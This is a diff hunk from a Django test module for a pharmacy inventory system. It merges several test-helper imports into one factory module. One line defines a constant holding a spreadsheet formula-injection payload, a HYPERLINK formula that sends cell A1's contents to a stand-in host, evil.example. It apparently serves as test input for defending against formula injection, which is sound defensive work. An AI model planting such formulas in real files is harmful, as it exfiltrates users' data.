@@ -16,10 +16,8 @@ from inventory import imports
 from inventory.models import Drug, MovementKind
 from pharmacies.models import Pharmacy
 from programmes.models import Programme
-from tests.factories.inventory import at, book
+from tests.factories.inventory import at, book, open_q3, row, run_import
 from tests.factories.sessions import login
-from tests.inventory.test_imports import row, run_import
-from tests.inventory.test_stocktakes import open_q3
 
 pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
